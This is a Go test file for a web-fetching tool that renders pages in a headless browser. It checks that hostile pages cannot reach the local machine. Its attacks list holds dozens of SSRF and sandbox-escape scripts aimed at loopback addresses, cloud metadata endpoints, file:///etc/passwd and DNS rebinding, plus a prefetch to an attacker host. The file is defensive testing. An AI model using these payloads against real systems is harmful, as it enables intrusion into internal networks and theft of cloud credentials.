package web

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"techo/internal/browser"
	"techo/internal/testenv"
	"techo/tools"
)

// madeText is what the scripts of the pages write.
const madeText = "The potter shapes each cup by hand, and lets it dry for a week before it is fired."

// scripted are pages without text before their scripts run. TEXT stands for madeText.
var scripted = []string{
	`<div id=root></div><script>root.innerHTML = "<p>TEXT</p>"</script>`,
	`<div id=root></div><script>setTimeout(() => root.append("TEXT"), 300)</script>`,
	`<div id=root></div><script>fetch("/data").then(r => r.json()).then(d => root.append(d.text))</script>`,
	`<div id=root></div><script>const x = new XMLHttpRequest; x.open("GET", "/data");
x.onload = () => root.append(JSON.parse(x.responseText).text); x.send()</script>`,
	`<div id=root></div><script>fetch("/data", {method: "POST", headers: {"X-A": "1"}, body: "{}"})
.then(r => r.json()).then(d => root.append(d.text))</script>`,
	`<div id=root></div><script type=module>import {text} from "/module.js"; root.append(text)</script>`,
	`<div id=root></div><script>import("/module.js").then(m => root.append(m.text))</script>`,
	`<div id=root></div><script src=/write.js></script>`,
	`<div id=root></div><script defer src=/write.js></script>`,
	`<div id=root></div><script>const s = document.createElement("script"); s.src = "/write.js";
document.body.append(s)</script>`,
	`<script>document.write("<p>TEXT</p>")</script>`,
	`<x-cup></x-cup><script>customElements.define("x-cup", class extends HTMLElement {
connectedCallback() { this.innerHTML = "<p>TEXT</p>" } })</script>`,
	`<x-cup></x-cup><script>customElements.define("x-cup", class extends HTMLElement {
constructor() { super(); this.attachShadow({mode: "open"}).innerHTML = "<style>p{}</style><p>TEXT</p>" } })</script>`,
	`<x-cup><p id=in></p></x-cup><script>customElements.define("x-cup", class extends HTMLElement {
constructor() { super(); this.attachShadow({mode: "open"}).innerHTML = "<main><slot></slot></main>"; } });
document.querySelector("p").append("TEXT")</script>`,
	`<template id=t><p></p></template><div id=root></div><script>
const c = t.content.cloneNode(true); c.querySelector("p").append("TEXT"); root.append(c)</script>`,
	`<div id=root></div><script>addEventListener("load", () => root.append("TEXT"))</script>`,
	`<div id=root></div><script>requestAnimationFrame(() => root.append("TEXT"))</script>`,
	`<div id=root></div><script>requestIdleCallback(() => root.append("TEXT"))</script>`,
	`<div id=root></div><script>new IntersectionObserver(() => root.append("TEXT")).observe(root)</script>`,
	`<div id=root></div><script>new MutationObserver(() => root.querySelector("i") ||
root.append(document.createElement("i"), "TEXT")).observe(root, {childList: true}); root.append("")</script>`,
	`<div id=root></div><script>history.pushState({}, "", "/cups"); root.append("TEXT")</script>`,
	`<div id=root></div><script>location.hash || (location.hash = "cups");
onhashchange = () => root.append("TEXT")</script>`,
	`<div id=root></div><script>location.search || location.replace("?cups");
location.search && root.append("TEXT")</script>`,
	`<div id=root></div><script>new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage =
() => root.append("TEXT")</script>`,
	`<div id=root></div><script>localStorage.text = "TEXT"; root.append(localStorage.text)</script>`,
	`<div id=root></div><script>indexedDB.open("a").onsuccess = () => root.append("TEXT")</script>`,
	`<div id=root></div><script>document.cookie = "a=1"; document.cookie && root.append("TEXT")</script>`,
	`<div id=root></div><script>crypto.getRandomValues(new Uint8Array(1));
queueMicrotask(() => root.append("TEXT"))</script>`,
	`<div id=root></div><script>new EventSource("/events").onmessage = e => root.append(e.data)</script>`,
	`<div id=root></div><script>try { new RTCPeerConnection } catch {} try { new WebSocket("ws://a.test/") } catch {}
alert(1); root.append("TEXT")</script>`,
}

// attacks are scripts of hostile pages. PORT is the port of the listeners. A script shows GOT if it read something.
var attacks = []string{
	`fetch("http://127.0.0.1:PORT/").then(got)`,
	`fetch("http://localhost:PORT/").then(got)`,
	`fetch("http://a.localhost:PORT/").then(got)`,
	`fetch("http://[::1]:PORT/").then(got)`,
	`fetch("http://10.0.0.1:PORT/").then(got)`,
	`fetch("http://2130706433:PORT/", {mode: "no-cors"}).then(got)`,
	`fetch("http://169.254.169.254:PORT/latest/meta-data/", {mode: "no-cors"}).then(got)`,
	`fetch("http://[fd00:ec2::254]:PORT/", {mode: "no-cors"}).then(got)`,
	`fetch("http://metadata.google.internal:PORT/", {mode: "no-cors"}).then(got)`,
	`fetch("http://rebind.test:PORT/", {mode: "no-cors"}).then(() =>
fetch("http://rebind.test:PORT/again", {mode: "no-cors"})).then(got)`,
	`fetch("/redirect?to=http://127.0.0.1:PORT/", {mode: "no-cors"}).then(got)`,
	`fetch("/redirect?to=http://169.254.169.254:PORT/", {mode: "no-cors"}).then(got)`,
	`fetch("/redirect?to=file:///etc/passwd").then(got)`,
	`fetch("file:///etc/passwd").then(got)`,
	`const x = new XMLHttpRequest; x.open("GET", "file:///etc/passwd"); x.onload = () => got(x); x.send()`,
	`document.body.insertAdjacentHTML("beforeend", "<iframe src='file:///etc/passwd'></iframe>")`,
	`document.body.insertAdjacentHTML("beforeend", "<iframe src='http://127.0.0.1:PORT/'></iframe>")`,
	`document.body.insertAdjacentHTML("beforeend", "<img src='http://127.0.0.1:PORT/'>")`,
	`document.body.insertAdjacentHTML("beforeend", "<link rel=preconnect href='http://10.0.0.2:PORT/'>" +
"<link rel=dns-prefetch href='//secret.attacker.test'><link rel=prefetch href='http://10.0.0.3:PORT/'>")`,
	`document.body.insertAdjacentHTML("beforeend", "<object data='http://10.0.0.4:PORT/'></object>" +
"<video src='http://10.0.0.5:PORT/'></video><embed src='http://10.0.0.6:PORT/'>")`,
	`new WebSocket("ws://127.0.0.1:PORT/").onopen = got`,
	`new WebSocket("ws://8.8.4.4:PORT/").onopen = got`,
	`new EventSource("http://127.0.0.1:PORT/").onopen = got`,
	`navigator.sendBeacon("http://127.0.0.1:PORT/", "x")`,
	`const r = new RTCPeerConnection({iceServers: [{urls: ["stun:8.8.4.4:UDP", "turn:8.8.4.4:PORT?transport=tcp"],
username: "a", credential: "b"}]}); r.createDataChannel("x"); r.createOffer().then(o => r.setLocalDescription(o))`,
	`const f = document.createElement("iframe"); document.body.append(f);
const r = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "stun:8.8.4.4:UDP"}]});
r.createDataChannel("x"); r.createOffer().then(o => r.setLocalDescription(o))`,
	`new WebTransport("https://8.8.4.4:UDP/").ready.then(got)`,
	`const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "evil.txt"; a.click()`,
	`const a = document.createElement("a"); a.href = "/download"; a.download = "evil.bin"; a.click()`,
	`open("http://127.0.0.1:PORT/"); open("file:///etc/passwd"); open("view-source:file:///etc/passwd")`,
	`new Worker(URL.createObjectURL(new Blob([
"fetch('http://127.0.0.1:PORT/',{mode:'no-cors'}).then(()=>postMessage(1))"])))
.onmessage = got`,
	`new SharedWorker("/worker.js").port.onmessage = got`,
	`navigator.serviceWorker.register("/worker.js").then(() => 0)`,
	`const f = document.createElement("form"); f.action = "ssh://127.0.0.1:PORT/"; document.body.append(f); f.submit()`,
	`location = "chrome://settings"`,
	`location = "mailto:a@b"`,
	// the loopback and this machine by other names
	`for (const a of ["0.0.0.0", "0", "127.1", "0177.0.0.1", "0x7f.1", "0x7f000001", "017700000001", "127.0.0.1.",
"[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "[fc00::1]",
"１２７.０.０.１", "127。0。0。1", "localhost.", "ip6-localhost", "127.0.0.1.nip.io", "100.100.100.200",
"168.63.129.16",
"169.254.170.2", "192.168.0.1", "172.16.0.1", "100.64.0.1", "198.18.0.1", "224.0.0.1", "255.255.255.255"])
fetch("http://" + a + ":PORT/", {mode: "no-cors"}).then(got, () => 0)`,
	`fetch("http://127.0.0.1:PORT/", {mode: "no-cors", keepalive: true, method: "POST", body: "x"}).then(got)`,
	`fetch("https://127.0.0.1:PORT/", {mode: "no-cors"}).then(got)`,
	`fetch("http://a:b@8.8.4.4:PORT/", {mode: "no-cors"}).then(got)`,
	// other schemes
	`for (const a of ["ftp", "gopher", "dict", "ws", "file", "filesystem:file", "view-source:file", "chrome",
"devtools", "about", "jar:file", "smb"]) for (const way of [fetch, (u) => import(u), (u) => new Worker(u)])
try { Promise.resolve(way(a + "://127.0.0.1:PORT/etc/passwd")).then(() => 0, () => 0) } catch {}`,
	`location = "data:text/html,<p>GOT"`,
	`const b = URL.createObjectURL(new Blob(["<script>fetch('http://127.0.0.1:PORT/')</scr" + "ipt>"],
{type: "text/html"})); document.body.append(Object.assign(document.createElement("iframe"), {src: b})); open(b)`,
	`location = "ftp://127.0.0.1:PORT/"`,
	// what pages load besides scripts
	`document.body.insertAdjacentHTML("beforeend", "<style>@import 'http://127.0.0.1:PORT/a.css';" +
"@font-face { font-family: x; src: url(http://127.0.0.1:PORT/x.woff) } p { font-family: x; " +
"background: url(http://127.0.0.1:PORT/x.png); cursor: url(http://127.0.0.1:PORT/x.cur), auto }</style>" +
"<svg><use href='http://127.0.0.1:PORT/x.svg#a'/><image href='http://127.0.0.1:PORT/x.png'/></svg>" +
"<audio src='http://127.0.0.1:PORT/'></audio><track src='http://127.0.0.1:PORT/'><input type=image " +
"src='http://127.0.0.1:PORT/'><body background='http://127.0.0.1:PORT/'>")`,
	`for (const rel of ["stylesheet", "icon", "manifest", "modulepreload", "preload", "prerender", "next", "import"])
document.head.append(Object.assign(document.createElement("link"), {rel, as: "script",
href: "http://127.0.0.1:PORT/"}))`,
	`document.head.append(Object.assign(document.createElement("script"), {type: "speculationrules",
textContent: JSON.stringify({prerender: [{urls: ["/a"]}], prefetch: [{urls: ["http://127.0.0.1:PORT/"]}]})}))`,
	`document.body.insertAdjacentHTML("beforeend", "<a id=p ping='http://127.0.0.1:PORT/' href='#x'>x</a>"); p.click()`,
	`document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc=\"<img src='http://127.0.0.1:PORT/'>" +
"<script>fetch('http://127.0.0.1:PORT/')</scr" + "ipt>\"></iframe><iframe src='data:text/html," +
"<script>fetch(%22http://127.0.0.1:PORT/%22)</scr" + "ipt>'></iframe>")`,
	`const f = Object.assign(document.createElement("form"), {action: "http://127.0.0.1:PORT/", method: "POST",
target: "_blank"}); document.body.append(f); f.submit()`,
	// dialogs, windows, devices, memory and time that is shared
	`onbeforeunload = () => "stay"; alert(1); prompt(2); print(); open("data:text/html,x");
window.showOpenFilePicker?.().catch(() => 0)`,
	`for (const ask of [() => navigator.geolocation.getCurrentPosition(got),
() => navigator.clipboard.readText().then(got), () => navigator.mediaDevices.getUserMedia({audio: true}).then(got),
() => navigator.usb.requestDevice({filters: []}).then(got), () => navigator.serial.requestPort().then(got),
() => navigator.credentials.get({password: true}).then(c => c && got())])
try { ask()?.catch?.(() => 0) } catch {}`,
	`document.cookie.includes("secret") && got(); typeof chrome?.runtime?.connect === "function" && got()`,
	`typeof SharedArrayBuffer === "function" && crossOriginIsolated && got()`,
	`history.pushState({}, "", "//127.0.0.1/")`,
	`new ReportingObserver(() => 0).observe(); navigator.sendBeacon("http://169.254.169.254:PORT/", "x")`,
}

// stage is a server at all addresses of an isolated network, and a browser.
type stage struct {
	t      *testing.T
	env    *tools.Env
	port   string
	udp    string
	mu     sync.Mutex
	hits   []string // addresses that were reached, except for 8.8.8.8
	page   string
	format string
}

// newStage starts the servers. The browser has no sandbox: the only user here is root.
func newStage(t *testing.T) *stage {
	path, err := browser.Find()
	if err != nil {
		testenv.Missing(t, "a browser")
	}
	program := filepath.Join(t.TempDir(), "browser")
	if err := os.WriteFile(program, []byte("#!/bin/sh\nexec "+path+" --no-sandbox \"$@\"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	s := &stage{t: t, env: newEnv(t, "")}
	s.env.Web.Browser = program
	l, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	u, err := net.ListenPacket("udp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	_, s.port, _ = net.SplitHostPort(l.Addr().String())
	_, s.udp, _ = net.SplitHostPort(u.LocalAddr().String())
	go func() {
		for b := make([]byte, 1500); ; {
			if _, _, err := u.ReadFrom(b); err != nil {
				return
			}
			s.hit("udp")
		}
	}()
	server := &http.Server{Handler: s, ConnContext: func(ctx context.Context, c net.Conn) context.Context {
		host, _, _ := net.SplitHostPort(c.LocalAddr().String())
		s.hit(strings.TrimPrefix(host, "::ffff:"))
		return ctx
	}}
	go server.Serve(l)
	t.Cleanup(func() { server.Close(); u.Close() })
	return s
}

func (s *stage) hit(address string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if address != "8.8.8.8" {
		s.hits = append(s.hits, address)
	}
}

// ServeHTTP serves the page and what it loads.
func (s *stage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if to := r.URL.Query().Get("to"); to != "" {
		http.Redirect(w, r, to, http.StatusFound)
		return
	}
	kind, body := "text/html; charset=utf-8", s.page
	switch r.URL.Path {
	case "/data":
		kind, body = "application/json", `{"text":"`+madeText+`"}`
	case "/module.js":
		kind, body = "text/javascript", `export const text = "`+madeText+`"`
	case "/write.js":
		kind, body = "text/javascript", `root.append("`+madeText+`")`
	case "/worker.js":
		kind, body = "text/javascript", `onconnect = e => fetch("http://127.0.0.1:`+s.port+`/", {mode: "no-cors"})
.then(() => e.ports[0].postMessage(1)); fetch("http://127.0.0.1:`+s.port+`/", {mode: "no-cors"})`
	case "/events":
		kind, body = "text/event-stream", "data: "+madeText+"\n\n"
	case "/download":
		w.Header().Set("Content-Disposition", "attachment")
		kind, body = "application/octet-stream", "evil"
	}
	w.Header().Set("Content-Type", kind)
	io.WriteString(w, body)
}

// render renders a page at a public address.
func (s *stage) render(page string) (FetchedPage, error) {
	s.page = "<!DOCTYPE html><html><head><title>Cups</title></head><body>" + page + "</body></html>"
	f := newFetch(s.t, s.env, FetchIn{URL: "http://8.8.8.8:" + s.port + "/", Render: "always", Timeout: 40,
		Format: s.format})
	f.client = newClient(s.env)
	var asked atomic.Int32
	f.client.lookup = func(_ context.Context, host string) ([]netip.Addr, error) {
		switch {
		case host != "rebind.test":
			return nil, nil
		case asked.Add(1) == 1:
			return []netip.Addr{netip.MustParseAddr("8.8.8.8")}, nil
		}
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	}
	return f.run(s.t.Context())
}

// TestRender renders pages that have no text without JavaScript.
func TestRender(t *testing.T) {
	if !testenv.Isolated(t) {
		return
	}
	s := newStage(t)
	for i, page := range scripted {
		if i > 0 && !testenv.Long() { // internal/browser renders pages by frameworks
			break
		}
		out, err := s.render(strings.ReplaceAll(page, "TEXT", madeText))
		if err != nil || !strings.Contains(out.Page, madeText) || !out.Rendered || out.Source != "rendered" ||
			out.NeedsJavaScript || !strings.HasPrefix(out.Browser, "Chrome/") {
			t.Errorf("%s\n%v %+v", page, err, out)
		}
	}
}

// TestRenderFrame renders a page whose scripts show another one, which is not loaded: the hint has
// its address.
func TestRenderFrame(t *testing.T) {
	if testenv.All(t, "a browser"); !testenv.Isolated(t) {
		return
	}
	s := newStage(t)
	s.format = "markdown"
	for _, element := range []string{`<iframe srcdoc="<p>secret</p>" src="/inside?a=1">`,
		`<frameset><frame src="/inside?a=1">`} {
		out, err := s.render("<div id=root></div><script>document.body.outerHTML = '" + element + "'</script>")
		if err != nil || out.Reason != "frames" || !strings.Contains(out.Hint, ":"+s.port+"/inside?a=1") ||
			strings.Contains(out.Page, "secret") {
			t.Errorf("%s: %v %+v", element, err, out)
		}
	}
}

// TestRenderAttacks renders hostile pages, in a network where everything has a listener. The
// long tests try each attack alone.
func TestRenderAttacks(t *testing.T) {
	if testenv.All(t, "a browser"); !testenv.Isolated(t) {
		return
	}
	s := newStage(t)
	home := os.Getenv("HOME")
	before, _ := filepath.Glob(filepath.Join(home, "*"))
	pages := [][]string{attacks}
	if testenv.Long() {
		pages = nil
		for _, a := range attacks {
			pages = append(pages, []string{a})
		}
	}
	fill := strings.NewReplacer("PORT", s.port, "UDP", s.udp)
	if len(attacks) < 50 {
		t.Errorf("%d attacks", len(attacks))
	}
	for _, scripts := range pages {
		var b strings.Builder
		b.WriteString(`<p id=here>Here</p><script>const got = () => document.body.append("GOT")</script>`)
		for _, script := range scripts {
			fmt.Fprintf(&b, "<script>{ %s }</script>", fill.Replace(script))
		}
		out, err := s.render(b.String())
		if err == nil && (!strings.Contains(out.Page, "Here") || strings.Contains(out.Page, "GOT") ||
			strings.Contains(out.Page, "root:")) {
			t.Errorf("%.90q: %q", scripts, out.Page)
		}
		if err != nil {
			t.Errorf("%.90q: %v", scripts, err)
		}
		s.mu.Lock()
		if len(s.hits) > 0 {
			t.Errorf("%.90q: reached %q", scripts, s.hits)
		}
		s.hits = nil
		s.mu.Unlock()
	}
	if after, _ := filepath.Glob(filepath.Join(home, "*")); !slices.Equal(before, after) {
		t.Errorf("files: %q", after)
	}
}

// TestRenderAway renders pages that lead to a private address.
func TestRenderAway(t *testing.T) {
	if testenv.All(t, "a browser"); !testenv.Isolated(t) {
		return
	}
	s := newStage(t)
	for _, to := range []string{"127.0.0.1", "169.254.169.254", "rebind.test"} {
		_, err := s.render(`<div id=root></div><script>location = "http://` + to + ":" + s.port + `/"</script>`)
		if e := tools.AsError(s.env, err); err == nil || e.Code != tools.Forbidden || len(s.hits) > 0 {
			t.Errorf("%s: %v, reached %q", to, err, s.hits)
		}
	}
}

// TestRenderNone asks for a rendering that the person has not allowed, or that is impossible.
func TestRenderNone(t *testing.T) {
	address := serve(t, func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, `<html><title>App</title><div id=root></div><script>1</script></html>`)
	})
	env := newEnv(t, "")
	_, e := get(t, env, FetchIn{URL: address, Render: "always"})
	wantError(t, e, tools.Unavailable, "No browser may run")
	out, e := get(t, env, FetchIn{URL: address, Render: "auto"})
	if e != nil || out.Rendered || !strings.Contains(out.Hint, "config set browser auto") {
		t.Errorf("%+v %+v", out, e)
	}
	env.Web.Browser = filepath.Join(t.TempDir(), "none")
	_, e = get(t, env, FetchIn{URL: address, Render: "always"})
	wantError(t, e, tools.Unavailable, "did not start")
	out, e = get(t, env, FetchIn{URL: address, Render: "auto"})
	if e != nil || out.Rendered || !strings.Contains(out.Hint, "did not start") {
		t.Errorf("%+v %+v", out, e)
	}
	if out, e = get(t, env, FetchIn{URL: address}); e != nil || !strings.Contains(out.Hint, "--render auto") {
		t.Errorf("%+v %+v", out, e)
	}
}
